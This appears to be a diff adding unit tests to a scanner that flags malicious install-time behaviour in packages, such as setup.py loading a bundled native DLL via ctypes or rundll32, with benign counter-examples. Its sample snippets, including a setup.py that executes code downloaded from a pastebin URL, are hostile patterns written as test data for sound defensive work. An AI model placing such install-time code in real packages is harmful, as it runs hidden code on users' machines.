@@ -214,6 +214,19 @@ create_makefile("fastjson/fastjson")`,
     expect(kinds('data = zlib.decompress(raw)\nsubprocess.run(["tar", "xf", "vendor.tar"])', 'python')).not.toContain('run-decoded');
   });
 
+  it('reads a native library of the package loaded at install time (ctypes in setup.py, process.dlopen, rundll32 given a list) as high', () => {
+    expect(buildFinding(added('setup.py', "import ctypes, os, sys\nfrom setuptools import setup\nif sys.platform == 'win32':\n    ctypes.WinDLL(os.path.join(os.path.dirname(__file__), 'tidy', 'libs', 'helper.dll')).Start()\nsetup(name='tidy')"))).toMatchObject({ severity: 'high', line: 4, title: 'setup.py loads a native library that ships with it at install time' });
+    expect(buildFinding(added('setup.py', "import subprocess\nfrom setuptools import setup\nsubprocess.Popen(['rundll32', 'tidy\\\\libs\\\\helper.dll,Start'])\nsetup(name='tidy')"))).toMatchObject({ severity: 'high', line: 3 });
+    expect(kinds("spawn('rundll32', [path.join(__dirname, 'node-gyp.dll') + ',main'], { detached: true });", 'js')).toContain('native-load');
+    expect(kinds("try { process.dlopen(m, path.join(__dirname, 'bin', os.platform() + '.node')); } catch {}", 'js')).toEqual(['native-load']);
+  });
+
+  it("a library of the system loaded by name to probe the machine, or Windows' own DLL run by rundll32, is no native library of the package", () => {
+    expect(buildFinding(added('setup.py', "import ctypes, ctypes.util\nfrom setuptools import setup\ntry:\n    ctypes.CDLL('libcuda.so.1')\n    gpu = True\nexcept OSError:\n    gpu = ctypes.util.find_library('cuda') is not None\nsetup(name='tidy')"))).toBeNull();
+    expect(kinds("subprocess.run(['rundll32', 'printui.dll,PrintUIEntry', '/il'])", 'python')).not.toContain('native-load');
+    expect(kinds('regsvr32 /s "$(TargetPath)"', 'shell')).not.toContain('native-load');
+  });
+
   it('reads exec of downloaded text in setup.py as running it (critical from a paste host); exec of the version file alone is ordinary', () => {
     expect(buildFinding(added('setup.py', 'from setuptools import setup\nimport urllib.request\nexec(urllib.request.urlopen("https://pastebin.com/raw/abc").read())\nsetup(name="x")'))).toMatchObject({ severity: 'critical' });
     expect(buildFinding(added('setup.py', 'from setuptools import setup\nabout = {}\nexec(open("src/pkg/__about__.py").read(), about)\nsetup(name="pkg", version=about["__version__"])'))).toBeNull();
